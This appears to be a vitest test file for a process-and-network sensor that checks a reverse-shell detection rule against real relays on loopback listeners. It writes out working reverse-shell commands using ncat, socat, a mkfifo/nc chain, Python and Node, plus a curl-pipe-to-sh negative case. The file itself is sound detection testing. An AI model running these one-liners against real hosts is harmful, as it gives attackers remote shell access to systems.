/**
 * Relay reverse shells against loopback listeners, through the real sensor and the built-in
 * rules: the listener sends a command, checks that its output came back over the connection,
 * then tells the shell to exit. Each relay must give exactly one RELAY-001 finding (and no
 * TRC-101 one: the socket never reaches the shell's stdio), with the listener's address and
 * port and the relay program.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Engine, ProcessTable, builtinRules, type Finding } from "sockeye";
import net from "node:net";
import http from "node:http";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PYTHON, Session, kernelTier, run } from "./harness.js";

const tier = kernelTier();

interface RelayFinding extends Finding {
  destination: { ip: string; port: number };
  sockeye: Finding["sockeye"] & {
    relay: { program: { name: string }; remote: { address: string; port: number }; shell: { interpreter: string } };
  };
}

/**
 * A listener that, on its first connection, sends `echo` of a marker the shell must compute,
 * waits for the answer, keeps the shell alive a moment (the rule reads /proc of live
 * processes), then sends `exit`.
 */
async function commandingListener(host: string): Promise<{ port: number; answered: Promise<boolean>; close(): Promise<void> }> {
  const sockets = new Set<net.Socket>();
  let resolveAnswered!: (ok: boolean) => void;
  const answered = new Promise<boolean>((r) => (resolveAnswered = r));
  const server = net.createServer((s) => {
    sockets.add(s);
    s.on("error", () => {});
    let got = "";
    s.write("echo RELAY_$((6*7))\n");
    s.on("data", (d: Buffer) => {
      got += d.toString();
      if (got.includes("RELAY_42")) {
        resolveAnswered(true);
        setTimeout(() => s.end("exit\n"), 1500);
      }
    });
    s.on("close", () => resolveAnswered(got.includes("RELAY_42")));
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    answered,
    close: () => new Promise((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
  };
}

describe.runIf(tier.run)("kernel: RELAY-001 on real relay shells", () => {
  let session: Session;
  let engine: Engine;
  const findings: RelayFinding[] = [];
  const dir = mkdtempSync(join(tmpdir(), "sockeye-relay-"));

  beforeAll(async () => {
    session = await Session.open();
    const table = new ProcessTable();
    table.seedFromProc();
    engine = new Engine({ rules: builtinRules(), processes: table });
    session.sensor.subscribe((events) => {
      for (const e of events) for (const f of engine.handle(e)) findings.push(f as unknown as RelayFinding);
    });
  });
  afterAll(() => session?.close());

  const forPort = (port: number) => findings.filter((f) => f.destination?.port === port);

  const relays: { name: string; cmd: (h: string, p: number) => string; relay: string[]; host?: string }[] = [
    { name: "ncat -e /bin/sh (pipes)", cmd: (h, p) => `ncat ${h} ${p} -e /bin/sh`, relay: ["ncat"] },
    { name: "ncat -e /bin/sh over IPv6", host: "::1", cmd: (h, p) => `ncat ${h} ${p} -e /bin/sh`, relay: ["ncat"] },
    { name: "socat EXEC:/bin/sh (socketpair)", cmd: (h, p) => `socat TCP:${h}:${p} EXEC:/bin/sh`, relay: ["socat"] },
    {
      name: "socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane (pty)",
      cmd: (h, p) => `socat TCP:${h}:${p} EXEC:'bash -li',pty,stderr,setsid,sigint,sane`,
      relay: ["socat"],
    },
    {
      name: "mkfifo chain: cat F | sh -i 2>&1 | nc F",
      cmd: (h, p) => `F=${join(dir, "f")}-${p}; rm -f $F; mkfifo $F; cat $F | sh -i 2>&1 | nc.traditional ${h} ${p} > $F`,
      relay: ["nc.traditional"],
    },
    {
      name: "python subprocess.Popen(['/bin/sh','-i'], stdin=PIPE, stdout=PIPE) relayed to a socket",
      cmd: (h, p) => `${PYTHON} -c '
import socket,subprocess,threading,os
s=socket.create_connection(("${h}",${p}))
c=subprocess.Popen(["/bin/sh","-i"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)
def up():
    while True:
        d=os.read(c.stdout.fileno(),4096)
        if not d: break
        s.sendall(d)
threading.Thread(target=up,daemon=True).start()
while True:
    d=s.recv(4096)
    if not d: break
    c.stdin.write(d); c.stdin.flush()
c.wait()'`,
      relay: ["python3"],
    },
    {
      name: "node child_process.spawn('/bin/sh', ['-i']) piped to a net socket (socketpairs)",
      cmd: (h, p) => `${process.execPath} -e 'const s=require("net").connect(${p},"${h}",()=>{const c=require("child_process").spawn("/bin/sh",["-i"]);s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s);c.on("exit",()=>process.exit(0))})'`,
      relay: ["node"],
    },
  ];

  for (const relay of relays) {
    it(relay.name, async () => {
      const host = relay.host ?? "127.0.0.1";
      const listener = await commandingListener(host);
      try {
        const r = await run("timeout", ["-s", "KILL", "10", "bash", "-c", relay.cmd(host, listener.port)]);
        expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
        await session.settle();
        const found = forPort(listener.port);
        expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
        const f = found[0]!;
        expect(f.destination.ip).toBe(host);
        expect(f.sockeye.relay.remote).toEqual({ address: host, port: listener.port });
        expect(relay.relay).toContain(f.sockeye.relay.program.name);
        expect(f.sockeye.relay.shell.interpreter).toBe("shell");
        expect(["sh", "bash", "dash"]).toContain(f.process.name);
      } finally {
        await listener.close();
      }
    }, 20_000);
  }

  it("not relays: curl | sh (no way back), sh -c under a socket-holding parent, tmux with an interactive shell", async () => {
    const before = findings.length;
    const server = http.createServer((_req, res) => res.end("echo fetched\n"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const port = (server.address() as net.AddressInfo).port;
    try {
      const piped = await run("bash", ["-c", `curl -s http://127.0.0.1:${port}/ | sh`]);
      expect(piped.stdout).toBe("fetched\n");
      await run(PYTHON, ["-c", `import socket,subprocess;s=socket.create_connection(("127.0.0.1",${port}));subprocess.run(["/bin/sh","-c","echo hi; sleep 0.5"],stdout=subprocess.PIPE)`]);
      const sock = join(dir, "tmux.sock");
      await run("tmux", ["-S", sock, "new-session", "-d", "bash"]);
      await new Promise((r) => setTimeout(r, 700));
      await run("tmux", ["-S", sock, "kill-server"]);
      await session.settle(500);
      expect(findings.slice(before).filter((f) => f.rule.id === "RELAY-001")).toEqual([]);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  }, 20_000);
});
